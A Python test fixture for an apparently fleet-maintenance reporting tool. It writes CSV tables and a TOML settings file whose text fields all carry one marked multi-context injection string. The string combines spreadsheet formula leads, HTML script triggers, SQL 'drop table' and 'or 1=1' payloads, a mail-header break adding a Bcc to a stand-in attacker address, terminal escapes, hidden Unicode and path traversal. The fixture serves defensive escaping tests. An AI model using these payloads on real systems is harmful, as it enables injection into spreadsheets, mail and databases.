"""A small fleet that attacks in every column of text and in its settings; what a reader may see of it is harmless.

Each text is the same attack on every channel with a mark of its own (`m12z`), so that a test can tell where it came
out. It begins as a formula would, and holds markup, quotes, a line break with a mail header, what steers a terminal,
and what ends a style sheet, a script and a character section.
"""

import csv
import json
import unicodedata
from collections.abc import Iterator
from itertools import count, cycle
from pathlib import Path
from typing import NamedTuple

from fleetreport.kinds import TEXT
from fleetreport.tables import TABLES, Table

EVIL = "evil.example"
LEADS = ("=", "+", "-", "@", "=")
BREAKS_OUT = (
    f"1+1|cmd!A0 <x-hit onload=alert(1) href=https://{EVIL}/>\"'`; drop table vehicles; --\r\nBcc: thief@{EVIL}\r\n"
    f"END:VEVENT \x1b]0;owned\x07\x9b2J\u202e\u2028\u061c\u200b\ufeff\U000e0041 "
    "{{{{7*7}}}} </style></script>]]>--><x-hit> url(//{EVIL}) &R&P"
)


def attack(lead: str, mark: int) -> str:
    return f"{lead}{BREAKS_OUT} m{mark}z"


def acting(text: str) -> set[str]:
    """What of a text, but tabs and line feeds, ends a line or turns the order of others, as codes.

    By general categories, and of format characters those with a direction of their own.
    """
    return {
        f"U+{ord(c):04X}" for c in set(text) - {"\n", "\t"} if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp")
        or (unicodedata.category(c) == "Cf" and unicodedata.bidirectional(c) != "BN")
    }  # fmt: skip


def unseen(text: str) -> set[str]:
    """Besides, all format characters, so that no name looks like another."""
    return acting(text) | {f"U+{ord(c):04X}" for c in set(text) if unicodedata.category(c) == "Cf"}


def mark_of(number: int) -> str:
    return f"m{number}z"


# What refers to each other. The second vehicle is a path, the third a reserved name.
VEHICLES = (attack("=", 1), f"../../../{EVIL}", "CON")
TASKS = (attack("+", 2), attack("-", 3))
CLASS, ITEM, OTHER_ITEM = attack("@", 4), attack("=", 5), attack("+", 6)
SUPPLIER = f"../../{attack('=', 7)}"
DEPOT, CENTRE, CATEGORY, KIND = attack("=", 8), attack("-", 9), attack("@", 10), attack("+", 11)
NAMED = {
    "class": CLASS, "item": ITEM, "depot": DEPOT, "cost_centre": CENTRE, "category": CATEGORY, "kind": KIND,
    "supplier": SUPPLIER, "instead_of": OTHER_ITEM, "not_with": VEHICLES[1],
}  # fmt: skip
FIRST_FREE = 20
# What is not text, and the rows that make every report have something to say.
ROWS: dict[str, list[dict[str, object]]] = {
    "vehicles": [{"vehicle_id": one, "in_service_on": "2022-01-01", "year": 2020, "budget_per_year": 900, "price": 9000}
                 for one in VEHICLES],
    "tasks": [
        {"task": TASKS[0], "every_months": 6, "every_distance": 10000, "labour_hours": 2, "source": "law"},
        {"task": TASKS[1], "every_months": 1, "labour_hours": 1, "after": "", "covers": ""},
    ],
    "vehicle_tasks": [{"vehicle_id": VEHICLES[0], "task": TASKS[0], "every_months": 5, "covers": "", "after": ""}],
    "expiries": [{"vehicle_id": VEHICLES[1], "task": TASKS[1], "expires_on": "2026-12-10"}],
    "items": [{"item": one, "on_hand": 0, "lead_time_days": 7, "limit_per_1000_km": 1} for one in (ITEM, OTHER_ITEM)],
    "readings": [
        *({"vehicle_id": VEHICLES[0], "read_at": f"2026-{month:02}-05", "reading": 3000 * month}
          for month in range(1, 12)),
        {"vehicle_id": VEHICLES[0], "read_at": "2026-11-10", "reading": 900000},
        {"vehicle_id": VEHICLES[0], "read_at": "2026-11-11", "reading": attack("=", 12)},
        {"vehicle_id": attack("=", 13), "read_at": "2026-11-12", "reading": 1},
    ],
    "history": [
        *({"vehicle_id": VEHICLES[0], "done_on": f"2026-{month:02}-07", "task": TASKS[0], "kind": "scheduled",
           "quantity": 2, "parts_cost": 50, "labour_hours": 2, "labour_cost": 90} for month in (2, 5)),
        *({"vehicle_id": VEHICLES[0], "done_on": f"2026-{month:02}-09", "task": "", "kind": kind, "quantity": 1,
           "still_open": "part" if kind == "repair" else ""} for month in range(3, 10)
          for kind in ("top_up", "repair", "scheduled")),
        # Old enough to judge past forecasts of money by.
        *({"vehicle_id": one, "done_on": f"{year}-{month:02}-15", "task": "", "kind": "repair", "parts_cost": 50}
          for one in VEHICLES for year in (2023, 2024, 2025) for month in (2, 6, 10)),
        {"vehicle_id": attack("=", 14), "done_on": "2026-05-01", "task": attack("=", 15), "kind": "", "parts_cost": 5},
    ],
    "task_items": [{"task": TASKS[0], "quantity": 2}, {"task": TASKS[0], "item": OTHER_ITEM, "quantity": 1}],
    "vehicle_items": [{"vehicle_id": VEHICLES[1], "task": TASKS[0], "quantity": 1}],
    "packs": [{"size": 1, "price": 9}, {"item": OTHER_ITEM, "size": 5, "price": 30}],
    "suppliers": [{"min_order": 0}],
    "stock_takes": [{"counted_on": "2026-10-01", "counted": 1}],
    "availability": [{"vehicle_id": VEHICLES[0], "weekday": "mon"}],
    "pairs": [{"vehicle_id": VEHICLES[0]}],
    "price_indexes": [{"month": "2026-01-01", "index_value": 100}, {"month": "2026-10-01", "index_value": 103}],
}  # fmt: skip


class Attacked(NamedTuple):
    """The fleet folder, and the number of the mark of each column of free text."""

    fleet: Path
    marks: dict[tuple[str, str], int]


def write_hostile_fleet(fleet: Path, more_settings: str = "") -> Attacked:
    """Write the folder; `more_settings` go to the end of [week] in fleet.toml."""
    fleet.mkdir(parents=True)
    numbers, leads = count(FIRST_FREE), cycle(LEADS)
    marks: dict[tuple[str, str], int] = {}
    for table in TABLES:
        if table.name in ROWS:
            with (fleet / f"{table.name}.csv").open("w", encoding="utf-8", newline="") as file:
                write = csv.writer(file)
                write.writerow([column.name for column in table.columns])
                write.writerows(_rows(table, marks, numbers, leads))
    (fleet / "fuel").mkdir()
    (fleet / "fuel" / "a.csv").write_text(
        f'{json.dumps(HEADER)[1:-1]},"{QUOTED}",km\nx,2026-01-09,5\n', encoding="utf-8"
    )
    (fleet / "fleet.toml").write_text(_settings() + f"[week]\n{more_settings}\n", encoding="utf-8")
    (fleet / "reports").mkdir()
    (fleet / "reports" / "own_rows.sql").write_text("-- Own rows\nselect * from history\n", encoding="utf-8")
    return Attacked(fleet, marks)


def _rows(
    table: Table, marks: dict[tuple[str, str], int], numbers: Iterator[int], leads: Iterator[str]
) -> Iterator[list[object]]:
    texts: dict[str, str] = {}
    for column in table.columns:
        if column.kind is TEXT and column.name not in ("vehicle_id", "task", "after") and column.name not in NAMED:
            marks[table.name, column.name] = number = next(numbers)
            texts[column.name] = attack(next(leads), number)
    for given in ROWS[table.name]:
        known = {**texts, **{name: text for name, text in NAMED.items() if name != "kind" or table.name != "history"}}
        yield [given.get(c.name, known.get(c.name, "") if c.kind is TEXT else "") for c in table.columns]


# Names and values of a source and of wording rules that would end the text they stand in.
HEADER = "x'); drop table vehicles; --"
QUOTED = 'Day "" x'
ENDS_TEXT = "' or 1=1; drop table vehicles; --"


def _settings() -> str:
    def said(value: object) -> str:
        # JSON writes characters above U+FFFF as two halves, which TOML does not know.
        return json.dumps(value, ensure_ascii=False)

    return f"""
[fleet]
name = {said(attack("=", 16))}
currency = "EUR"
[stock]
deliver_to = {said(attack("@", 17))}
only_listed_for = [{said(ENDS_TEXT)}]
[mail]
week = ["a@example.org"]
order = ["b@example.org"]
forecast = ["c@example.org"]
[smtp]
sender = "workshop@example.org"
[workshop]
labour_rate = 60
[workshop.hours_per_week]
{said(DEPOT)} = 20
{said(ENDS_TEXT)} = 5
[money.growth]
{said(ENDS_TEXT)} = 0.01
[[stock.confirmed]]
item = {said(ITEM)}
product = {said(ENDS_TEXT)}
said = {said(attack("=", 18))}
[[wording]]
words = [{said(ENDS_TEXT)}, "drop table"]
class = {said(CLASS)}
task = {said(TASKS[1])}
[[wording]]
pattern = {said("^.*'; drop table vehicles")}
item = {said(ENDS_TEXT)}
[[source]]
files = "fuel/*.csv"
table = "readings"
currency = {said([ENDS_TEXT])}
blank = {said([ENDS_TEXT])}
[source.columns]
vehicle_id = {said(HEADER)}
read_at = {said(QUOTED.replace('""', '"'))}
reading = "km"
[source.constants]
source = {said(ENDS_TEXT)}
[source.leave_out]
km = {said([ENDS_TEXT])}
"""
